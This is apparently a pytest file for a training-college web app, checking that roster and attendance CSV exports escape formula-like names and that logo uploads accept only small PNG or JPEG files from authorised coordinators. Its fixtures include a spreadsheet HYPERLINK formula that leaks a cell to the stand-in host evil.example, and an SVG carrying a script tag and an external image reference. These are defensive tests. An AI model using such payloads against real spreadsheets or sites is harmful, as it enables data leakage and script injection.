"""Content: CSV exports neutralise formulas; the organiser's logo is a small PNG or JPEG."""

from __future__ import annotations

import csv
import io
import os

import pytest
from PIL import Image
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from college.accounts.models import Organiser
from college.catalogue.models import TrainingSession
from college.extensions import db
from tests.conftest import csrf_token

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klik hier")', "+32 9 123 45 67", "-1+1", "@SUM(A1:A9)"]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


def test_learner_names_that_look_like_formulas_are_exported_as_text(client, make, auth):
    organiser = make.organiser()
    trainer = make.trainer(organiser)
    edition = make.edition(make.course(organiser), trainers=[trainer], sessions=1)
    for name in FORMULAS:
        make.enrolment(make.learner(name=name), edition)
    session_id = db.session.scalar(select(TrainingSession.id).where(TrainingSession.edition_id == edition.id))
    auth.login_as(trainer)
    for url in (f"/sessions/{session_id}/roster.csv", f"/editions/{edition.id}/attendance.csv"):
        names = {row[0] for row in read_csv(client.get(url))[1:]}
        assert names == {"'" + name for name in FORMULAS}, url


def image_bytes(fmt: str, size=(40, 20), noise: bool = False) -> bytes:
    buffer = io.BytesIO()
    if noise:
        image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    else:
        image = Image.new("RGB", size, (200, 30, 30))
    image.save(buffer, format=fmt)
    return buffer.getvalue()


def upload(client, organiser_id: int, content: bytes, filename: str):
    url = f"/organisers/{organiser_id}/logo"
    fields = {"csrf_token": csrf_token(client, url), "logo": FileStorage(io.BytesIO(content), filename)}
    # Encoded in memory: the test client would spool a large body to a file it never closes.
    boundary, body = encode_multipart(fields)
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def logo_of(organiser_id: int) -> tuple[bytes | None, str | None]:
    db.session.expire_all()
    organiser = db.session.get(Organiser, organiser_id, options=[db.undefer(Organiser.logo)])
    return organiser.logo, organiser.logo_mimetype


@pytest.mark.parametrize(("fmt", "mimetype"), [("PNG", "image/png"), ("JPEG", "image/jpeg")])
def test_a_coordinator_uploads_a_png_or_jpeg_logo(client, make, auth, fmt, mimetype):
    organiser = make.organiser()
    auth.login_as(make.coordinator(organiser))
    content = image_bytes(fmt)
    response = upload(client, organiser.id, content, f"logo.{fmt.lower()}")
    assert response.status_code == 302
    assert logo_of(organiser.id) == (content, mimetype)
    page = client.get(f"/organisers/{organiser.id}/logo").get_data(as_text=True)
    assert "The logo has been saved" in page
    preview = client.get(f"/organisers/{organiser.id}/logo.img")
    assert preview.data == content and preview.mimetype == mimetype


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
       b'<image href="http://evil.example/x.png"/></svg>')


@pytest.mark.parametrize(("content", "filename", "message"), [
    (SVG, "logo.svg", "must be a PNG or JPEG"),
    (SVG, "logo.png", "must be a PNG or JPEG"),  # the name does not make it an image
    (image_bytes("GIF"), "logo.gif", "must be a PNG or JPEG"),
    (b"\x89PNG\r\n\x1a\n not really", "logo.png", "must be a PNG or JPEG"),
    (image_bytes("PNG", size=(500, 500), noise=True), "big.png", "at most 512 KB"),
])
def test_other_files_are_refused_and_nothing_changes(client, make, auth, content, filename, message):
    organiser = make.organiser()
    auth.login_as(make.coordinator(organiser))
    response = upload(client, organiser.id, content, filename)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert logo_of(organiser.id) == (None, None)


def test_only_the_organisers_coordinators_change_its_logo(client, make, auth):
    organiser, elsewhere = make.organiser(), make.organiser()
    for intruder in (make.coordinator(elsewhere), make.trainer(organiser), make.learner()):
        auth.login_as(intruder)
        assert upload(client, organiser.id, image_bytes("PNG"), "logo.png").status_code == 403
        assert client.get(f"/organisers/{organiser.id}/logo").status_code == 403
        auth.logout()
    assert logo_of(organiser.id) == (None, None)


def test_a_ready_export_whose_file_is_gone_is_not_found(client, make, auth):
    from college.privacy.models import DataExport, ExportStatus

    learner = make.learner()
    export = make._save(DataExport(user_id=learner.id, status=ExportStatus.READY, storage_key="gone.zip"))
    auth.login_as(learner)
    assert client.get(f"/account/privacy/exports/{export.id}.zip").status_code == 404
